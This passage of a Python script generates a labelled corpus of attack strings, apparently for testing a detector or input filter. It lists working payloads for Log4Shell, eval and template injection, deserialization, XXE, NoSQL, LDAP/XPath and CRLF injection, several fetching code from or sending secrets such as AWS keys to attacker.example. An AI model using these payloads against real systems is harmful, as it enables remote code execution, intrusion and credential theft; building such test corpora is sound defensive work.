    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-useragent-rmi", "Mozilla/5.0 ${jndi:rmi://198.51.100.30:1099/obj}"),
    ("node-eval-require", "require('child_process').exec('curl attacker.example/s|sh')"),
    ("node-eval-process", "process.mainModule.require('child_process').execSync('id').toString()"),
    ("node-function-constructor", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("python-eval-import", "__import__('os').system('id')"),
    ("python-eval-controller-expr", "temp > 28 and __import__('subprocess').check_output(['id'])"),
    ("python-exec-builtins", "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['popen']('id').read()"),
    ("php-eval-system", "system('id');"),
    ("php-eval-assert", "assert(\"system('id')\")"),
    ("php-eval-backtick", "echo `cat /etc/passwd`;"),
    ("ruby-eval", "Kernel.exec('id')"),
    ("proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution-query", "__proto__[shell]=/proc/self/exe&__proto__[argv0]=node"),
    ("proto-pollution-ejs-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');s\"}}"),
    ("csv-formula-cmd", "=cmd|' /C calc'!A0"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"View tank photos\")"),
    ("csv-formula-plus", "+cmd|'/c powershell IEX(wget attacker.example/p)'!A1"),
    ("csv-formula-at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-dde", "DDE(\"cmd\";\"/C calc\";\"!A0\")A0"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/l?\"&A2)"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C5),\"//a\")"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE tank [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><tank><name>&x;</name></tank>"),
    ("xxe-oob-param", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xxe-ssrf", "<!DOCTYPE log [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><log>&m;</log>"),
    ("xxe-php-filter", "<!DOCTYPE c [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><controller>&f;</controller>"),
    ("xinclude", "<params xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></params>"),
    ("svg-xxe-upload", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE s [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>"),
    ("yaml-pyyaml-apply", "!!python/object/apply:os.system ['id']"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("yaml-snakeyaml-jdbcrowset", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://attacker.example:1389/Obj\", autoCommit: true}"),
    ("pickle-base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIGF0dGFja2VyLmV4YW1wbGUvcHxzaCcKdFIu"),
    ("pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("jackson-default-typing", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.5:1099/x\",\"autoCommit\":true}"),
    ("dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-serialize-object", "O:8:\"Settings\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-phar-wrapper", "phar:///var/www/uploads/tank_photo.jpg/test.txt"),
]
TPL["code"] = (3, [
    "Dosing note: ", "Tank name: ", "Controller label ", "Water change reminder ", "Breeder bio: ",
], [
    ("tpl-jinja", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("tpl-log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("tpl-spel", "#{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("tpl-freemarker", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"whoami\")}"),
    ("tpl-mako", "${self.module.cache.util.os.system('id')}"),
])

# ---------------------------------------------------------------- nosqli
LIT["nosqli"] = [
    ("plain-ne-json", "{\"$ne\": null}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("login-password-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": \"x\"}}"),
    ("query-bracket-ne", "password[$ne]=1"),
    ("query-bracket-regex", "username[$regex]=^adm&password[$ne]="),
    ("search-regex-dos", "{\"$regex\": \"^(a+)+$\"}"),
    ("regex-extract-prefix", "{\"$regex\": \"^a\", \"$options\": \"s\"}"),
    ("where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-this", "{\"$where\": \"this.role == 'admin'\"}"),
    ("js-string-break", "Betta'; return true; var x='"),
    ("js-string-break-or", "Neon' || '1'=='1"),
    ("in-array", "{\"$in\": [\"admin\", \"root\", \"breeder\"]}"),
    ("nin-bypass", "{\"$nin\": [\"\"]}"),
    ("exists-bypass", "{\"$exists\": true}"),
    ("expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(5000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("stock-filter-or", "{\"species\": \"Corydoras\", \"$or\": [{}, {\"a\": \"a\"}]}"),
    ("price-lt-operator", "{\"price\": {\"$lt\": 0.01}, \"$comment\": \"discus 8cm\"}"),
    ("order-id-gt", "order_id[$gt]=0"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("mapreduce-js", "function() { emit(1, db.users.find().toArray()); }"),
    ("mongo-shell-drop", "'; db.orders.drop(); var a='"),
    ("elastic-script", "{\"script\": {\"source\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}"),
    ("redis-eval-crlf", "tank1\r\nEVAL \"return redis.call('keys','*')\" 0\r\n"),
]
TPL["nosqli"] = (3, [
    "tank_id[$ne]=", "species[$regex]=", "breeder[$gt]=",
], [
    ("tpl-bracket-operator", ""),
])

# ---------------------------------------------------------------- crlf
LIT["crlf"] = [
    ("plain-header-setcookie", "x\r\nSet-Cookie: session=attacker"),
    ("plain-urlencoded-location", "%0d%0aLocation:%20https://attacker.example/"),
    ("log-forge-login", "reefkraken\n2024-05-02 10:14:07 INFO login succeeded user=admin ip=10.0.0.2"),
    ("log-forge-controller", "Heater_1\n[ALERT] Temp 25.4 OK - alarms cleared by admin"),
    ("log-forge-order", "A-20931\r\n2024-05-02T11:00:00Z order=A-20931 status=REFUNDED amount=489.00"),
    ("log-forge-encoded", "Betta%0a2024-05-02 12:00:01 INFO user=admin action=grant_role role=superuser"),
    ("log-forge-double-encoded", "neon%250d%250a[INFO] password reset for admin OK"),
    ("response-split-body", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-param-split", "/shop/cart%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("header-inject-xss-protection", "lang=de\r\nX-XSS-Protection: 0"),
    ("header-inject-cors", "tank-cam\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-inject-cache", "sort=price\r\nCache-Control: public, max-age=31536000"),
    ("cr-only-header", "x\rSet-Cookie: admin=1"),
    ("unicode-newline-utf8", "x%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("lf-only-header", "filename.csv\nContent-Disposition: attachment; filename=invoice.exe"),
    ("percent-u-crlf", "x%u000d%u000aSet-Cookie: sid=1"),
    ("mail-bcc", "mari.okafor@example.com\r\nBcc: everyone@example.com"),
    ("mail-cc-encoded", "shop@example.com%0ACc:%20victim1@example.com,victim2@example.com"),
    ("mail-subject-body", "Order A-20931 question\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Verify your order</a>"),
    ("mail-from-spoof", "Tom\nFrom: support@aquarium-shop.example\nReply-To: support@attacker.example"),
    ("mail-to-add", "breeder@example.com\r\nTo: list-all@example.com"),
    ("smtp-command-inject", "hi\r\n.\r\nMAIL FROM:<eve@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSpam\r\n.\r\n"),
    ("http-request-smuggle-header", "x\r\nTransfer-Encoding: chunked"),
    ("redis-cmd-via-crlf", "tank1%0d%0aCONFIG%20SET%20dir%20/var/www/html%0d%0a"),
    ("csv-log-newline", "pH 6.8\n2024-05-02,admin,export_all_customers,ok"),
    ("syslog-forge", "note\n<34>May  2 12:00:00 controller sshd[123]: Accepted password for root from 10.0.0.9"),
    ("json-log-forge", "x\",\"level\":\"INFO\",\"user\":\"admin\",\"msg\":\"role changed\"}\n{\"msg\":\""),
]
TPL["crlf"] = (3, [
    "Temp 25.6 OK", "feed mode A", "WC 40% done",
], [
    ("tpl-log-forge", "\n2024-05-03 09:00:00 INFO user=admin login ok"),
    ("tpl-header-cookie", "\r\nSet-Cookie: role=admin"),
])

# ---------------------------------------------------------------- ldap-xpath
LIT["ldap-xpath"] = [
    ("ldap-wildcard-bypass", "*)(uid=*))(|(uid=*"),
    ("ldap-admin-comment", "admin)(&)"),
    ("ldap-or-inject", "reefkraken)(|(password=*)"),
    ("ldap-attr-enum", "*)(mail=*@example.com"),
    ("ldap-blind-char", "admin)(userPassword=a*"),
    ("ldap-null-byte", "admin)%00"),
    ("ldap-objectclass", "x)(objectClass=*"),
    ("ldap-group-member", "*)(memberOf=cn=shop-admins,ou=groups,dc=aquarium,dc=example"),
    ("ldap-encoded-paren", "%2a%29%28uid%3d%2a"),
    ("xpath-or-true", "' or '1'='1"),
    ("xpath-or-true-double", "\" or \"\"=\""),
    ("xpath-breeder-bypass", "breeder' or 1=1 or 'a'='a"),
    ("xpath-count-users", "x' or count(/users/user)>0 or 'a'='b"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("xpath-name-enum", "' or name(/*)='shop' or '1'='2"),
    ("xpath-union-node", "x']|//user/password|//*['"),
    ("xpath-doc-ssrf", "x' or doc('http://attacker.example/x.xml') or '1'='1"),
    ("xpath-string-length", "' or string-length(//user[name='admin']/pass)=8 or ''='"),
]
TPL["ldap-xpath"] = (2, [
    "Apistogramma", "tank-club",
], [
    ("tpl-ldap-star", ")(|(uid=*))"),
    ("tpl-xpath-or", "' or '1'='1' or 'a'='"),
])

CATEGORIES = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]

# nosqli template payloads are values appended to a bracket-operator prefix
NOSQL_VALUES = ["", "1", "^a", "x", ".*"]


def urlenc(s):
    return urllib.parse.quote(s, safe="")


def build():
    rng = random.Random(SEED)
    rows = []
    n = 0
    n_lit = 0
    for cat in CATEGORIES:
        items = list(LIT[cat])
        vals = [v for _, v in items]
        assert len(set(vals)) == len(vals), cat
        n_lit += len(items)
        seen = set(vals)
        count, prefixes, payloads = TPL[cat]
        made = []
        guard = 0
        while len(made) < count:
            guard += 1
            assert guard < 10000, cat
            pre = rng.choice(prefixes)
            cls, pay = rng.choice(payloads)
            if cat == "nosqli":
                v = pre + rng.choice(NOSQL_VALUES)
            else:
                v = pre + pay
            if rng.random() < 0.3 and cat not in ("crlf", "nosqli", "ssrf"):
                v = urlenc(v)
                cls = cls + "+urlencode"
            if v in seen:
                continue
            seen.add(v)
            made.append((cls, v))
        for cls, v in items + made:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": v})
    return rows, n_lit


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "attacks.jsonl")
    rows, n_lit = build()
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote %d rows (%d literal) to %s" % (len(rows), n_lit, out))


if __name__ == "__main__":
    main()
